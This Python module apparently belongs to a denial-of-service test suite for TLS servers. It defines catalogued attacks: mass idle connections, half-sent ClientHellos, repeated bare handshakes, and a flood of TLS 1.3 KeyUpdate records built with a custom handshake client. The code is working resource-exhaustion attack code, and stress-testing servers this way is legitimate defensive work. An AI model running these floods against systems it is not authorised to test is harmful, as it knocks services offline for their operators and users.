"""Attacks on TLS over TCP."""
import struct

import tls13
from catalogue import attack

RECORD_HANDSHAKE, RECORD_DATA = 22, 23


@attack("no-hello", "plain", "H1-18", "1,500 connections to the port with TLS, which send nothing")
def no_hello(run):
    run.hold(run.many(1500, lambda: run.tcp(run.target.port)))


@attack("half-hello", "h1", "T-04",
        "500 connections with 15 KiB of a ClientHello that is never finished")
def half_hello(run):
    hello = tls13.Handshake(b"http/1.1", padding=30000).hello[:15000]
    record = b"\x16\x03\x01" + struct.pack(">H", len(hello)) + hello
    channels = run.many(500, lambda: run.tcp(run.target.port))
    for channel in channels:
        channel.send(record)
    run.hold(channels)


@attack("handshakes", "h1", "T-04", "whole handshakes, one after the other, and no request")
def handshakes(run):
    while run.on():
        channel = run.tls()
        if channel is None:
            run.pause(0.05)
        else:
            channel.close()


class Raw:
    """TLS 1.3 over a Channel, with keys of our own."""

    def __init__(self, channel):
        self.channel = channel
        self.data = b""
        handshake = tls13.Handshake(b"http/1.1")
        channel.send(b"\x16\x03\x01" + struct.pack(">H", len(handshake.hello)) + handshake.hello)
        _, hello = self.record()
        handshake.server_hello(hello)
        reading, flight, number = tls13.Aead(handshake.server_secret), b"", 0
        while tls13.flight_end(flight) is None:
            header, sealed = self.record()
            if header[0] != RECORD_DATA:
                continue
            flight += reading.open(number, header, sealed).rstrip(b"\0")[:-1]
            number += 1
        finished = handshake.finish(flight[:tls13.flight_end(flight)])
        self.renew(handshake.client_secret)
        channel.send(self.seal(RECORD_HANDSHAKE, finished))
        self.secret = handshake.client_traffic
        self.renew(self.secret)

    def record(self):
        while len(self.data) < 5 or len(self.data) < 5 + int.from_bytes(self.data[3:5], "big"):
            more = self.channel.take(1.0)
            if not more:
                raise tls13.Refused("no handshake")
            self.data += more
        end = 5 + int.from_bytes(self.data[3:5], "big")
        header, body, self.data = self.data[:5], self.data[5:end], self.data[end:]
        return header, body

    def renew(self, secret):
        self.writing, self.number = tls13.Aead(secret), 0

    def seal(self, kind, data):
        inner = data + bytes([kind])
        header = b"\x17\x03\x03" + struct.pack(">H", len(inner) + 16)
        self.number += 1
        return header + self.writing.seal(self.number - 1, header, inner)

    def key_update(self, asks_back):
        record = self.seal(RECORD_HANDSHAKE, tls13.message(tls13.KEY_UPDATE, bytes([asks_back])))
        self.secret = tls13.expand_label(self.secret, b"traffic upd", b"", 32)
        self.renew(self.secret)
        return record


@attack("key-updates", "h1", "F8, T-03", "TLS KeyUpdates, each of which asks for one in return")
def key_updates(run):
    raw = {}

    def connect():
        channel = run.tcp(run.target.port)
        if channel is not None:
            try:
                raw["now"] = Raw(channel)
            except tls13.Refused as refused:
                channel.close(str(refused))
                return None
        return channel

    run.flood(connect, lambda n: b"".join(raw["now"].key_update(1) for _ in range(200)))
